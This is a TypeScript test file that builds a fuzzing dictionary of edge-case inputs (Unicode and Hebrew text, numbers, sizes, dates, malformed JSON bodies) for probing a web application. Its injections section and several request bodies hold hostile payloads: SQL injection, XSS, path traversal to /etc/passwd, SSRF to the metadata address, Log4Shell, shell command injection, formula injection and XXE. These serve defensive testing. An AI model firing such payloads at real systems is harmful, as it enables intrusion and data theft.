/** What a form, a script or an enemy might send, some four hundred of them; values of every kind. */
export function dictionary(): unknown[] {
  return [
    ...NOTHING,
    ...numbers(),
    ...TEXTS,
    ...hebrew(),
    ...signs(),
    ...injections(),
    ...sizes(),
    ...shapes(),
    ...dates(),
  ];
}

const NOTHING = [
  null,
  '',
  ' ',
  '\t\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\0',
  'a\0b',
  'null',
  'undefined',
  'NaN',
  'true',
];

const numbers = (): unknown[] => [
  ...[0, -0, 1, -1, 0.1, -1.5, 13, 31, 32, 100, 101, 255, 256, 65_535, 1e9, 1e15, 1e16, 1e21, 1e308],
  ...[2 ** 31 - 1, 2 ** 31, 2 ** 32, 2 ** 53 - 1, 2 ** 53, -(2 ** 53)],
  ...[
    '0',
    '-1',
    '00',
    '01',
    '1.0',
    '1e3',
    '0x10',
    '9'.repeat(15),
    '9'.repeat(16),
    '9'.repeat(400),
    '١٢٣',
    '１２',
    '½',
    '∞',
  ],
];

const TEXTS = [
  'Ruth',
  'רות כהן',
  "O'Connor",
  'Zoë Ångström',
  '山田',
  '👩‍👩‍👧‍👦'.repeat(20),
  'a@example.org',
  'a@b',
  'a b@c.d',
  'a@example.org\r\nBcc: b@example.org',
  'http://localhost/',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  'http://[::ffff:127.0.0.1]/',
  'http://2130706433/',
  'http://user@evil.example@localhost/',
];

/** Letters with every point and accent, final forms, directions, and words too long for LIKE. */
const hebrew = (): string[] => [
  'שָׁלוֹם',
  'בְּרֵאשִׁ֖ית בָּרָ֣א אֱלֹהִ֑ים',
  'ג׳ורג׳ צה״ל בן־דוד',
  'םןץףך',
  'אבגדה'.repeat(12),
  'א'.repeat(10_000),
  ...Array.from({ length: 40 }, (_, at) => `א${String.fromCodePoint(0x0591 + at)}ב`),
  ...Array.from({ length: 50 }, (_, at) => `${String.fromCodePoint(0xfb1d + at)}ק`),
];

/** Marks of direction, lone surrogates, control and private signs, each where a name would be. */
const signs = (): string[] => [
  ...[
    '\u200e',
    '\u200f',
    '\u061c',
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
  ].map((sign) => `Dana${sign}Levi`),
  ...['\ud800', '\udc00', '\ud83d', '\udfff', '\ud83d\ud83d'].flatMap((sign) => [
    sign,
    `Dana${sign}`,
    `${sign}Levi`,
  ]),
  ...Array.from({ length: 32 }, (_, at) => `Da${String.fromCharCode(at)}na`),
  ...['\u007f', '\u0085', '\u2028', '\u2029', '\ufffe', '\uffff', '\ue000', '\u{e0001}', '\u{10ffff}'].map(
    (sign) => `a${sign}b`,
  ),
  'Z\u0351\u036b\u0343'.repeat(300),
];

const injections = (): string[] => [
  ...[
    "'",
    '"',
    '`',
    "''",
    "' or 1=1 --",
    '"; drop table sites; --',
    "1' union select * from users --",
    '%',
    '_',
    '%%%',
    '*',
    '?',
    '[a-z]',
    '\\',
    '\\0',
  ],
  ...[
    'NEAR(',
    'a NEAR/2 b',
    'AND',
    'OR',
    'NOT',
    '"unclosed',
    'col:x',
    '^a',
    '(',
    ')',
    'a* b*',
    '-a',
    '{a b}: c',
    '"" ""',
  ],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '</title><script>',
    '"><svg onload=alert(1)>',
    '{{7*7}}',
    `$\{7*7}`,
    '<!--',
    ']]>',
    '&lt;',
    '%3Cscript%3E',
  ],
  ...[
    '../../etc/passwd',
    '..%2f..%2f',
    '%2e%2e%2f',
    '%00',
    '%',
    '%zz',
    '%c0%ae',
    '%u0000',
    '/',
    '//',
    '\\..\\',
    'a/b',
    'a?b',
    'a#b',
    ';a=b',
    'con',
    '.git/config',
  ],
  ...['=1+1', '+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.example")', '\tx', '\rx'],
  ...[
    'a\r\nSet-Cookie: x=y',
    'a\nLocation: //evil.example',
    'a%0d%0ab',
    `$\{jndi:ldap://evil}`,
    '$(id)',
    '`id`',
    '; ls',
    '| cat',
    '&& id',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'then',
    'length',
    'role_id',
    'owner_id',
    'id',
  ],
];

const sizes = (): string[] =>
  [
    1, 2, 3, 59, 60, 61, 120, 121, 254, 255, 256, 300, 301, 500, 501, 1000, 1024, 1025, 5000, 20_001, 100_000,
  ].flatMap((length) => ['a'.repeat(length), 'ש'.repeat(length)]);

const shapes = (): unknown[] => [
  [],
  {},
  [[]],
  [null],
  [1, 2, 3],
  Array.from({ length: 101 }, (_, at) => at),
  Array.from({ length: 5000 }, () => 'x'),
  { '': '' },
  { length: 1 },
  { toString: 'x' },
  JSON.parse('{"then":"x"}'),
  { $gt: '' },
  { constructor: { prototype: { admin: true } } },
  JSON.parse('{"__proto__":{"role_id":1}}'),
  true,
  false,
  nested(50),
];

const dates = (): unknown[] => [
  ...[
    [2026, 2, 31],
    [2026, 14, 1],
    [2026, 0, 0],
    [0, 1, 1],
    [-1, 1, 1],
    [10_000, 1, 1],
    [2026, 2.5, 1],
    [2026, null, 5],
    [2026, 5, null],
  ].flatMap(([year, month, day]) => ['en', 'he', 'fr'].map((format) => ({ format, year, month, day }))),
  { format: 'he', year: 5784, month: 13, day: 30 },
  { format: 'he', year: 5787, month: 13, day: 1 },
  { format: 'he', year: 5787, month: 8, day: 30 },
  ...[
    '2026-02-31',
    '2026-13-01',
    '2026-01-01T00:00:00Z',
    '2026-01-01T25:00:00Z',
    '99999-01-01',
    '0000-00-00',
    'yesterday',
    '1e9',
  ],
];

/** `{a: {a: …}}`, so many deep. */
export function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let at = 0; at < depth; at++) value = { a: value };
  return value;
}

const encoder = new TextEncoder();
const json = (text: string | Uint8Array): RequestInit => ({
  headers: { 'Content-Type': 'application/json' },
  body: text as BodyInit,
});

/** Bodies that are no JSON object, or hardly. */
export const rawBodies = (): RequestInit[] => [
  json('{'),
  json('{"a":1,}'),
  json("{'a':1}"),
  json('[]'),
  json('null'),
  json('1'),
  json('"text"'),
  json('{"email":"a@b.cd","email":"c@d.ef"}'),
  json('{"__proto__":{"role_id":1},"constructor":{"prototype":{}}}'),
  json('['.repeat(10_000) + ']'.repeat(10_000)),
  json(`${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`),
  json(`{"text":"${'x'.repeat(2_000_000)}"}`),
  json(new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d])),
  json(new Uint8Array([0xef, 0xbb, 0xbf, ...encoder.encode('{}')])),
  json(new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00])),
  json(new Uint8Array(0)),
  json('\0'),
  { headers: { 'Content-Type': 'text/plain' }, body: '{"email":"a@b.cd"}' },
  { headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'a=1&a=2&__proto__=x' },
  { headers: { 'Content-Type': 'multipart/form-data; boundary=x' }, body: '--x\r\n\r\n--x--' },
  {
    headers: { 'Content-Type': 'application/xml' },
    body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  {
    headers: { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' },
    body: new Uint8Array([
      0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xab, 0xae, 5, 0, 0x43, 0xbf, 0xa6, 0xa3, 2, 0, 0, 0,
    ]),
  },
];
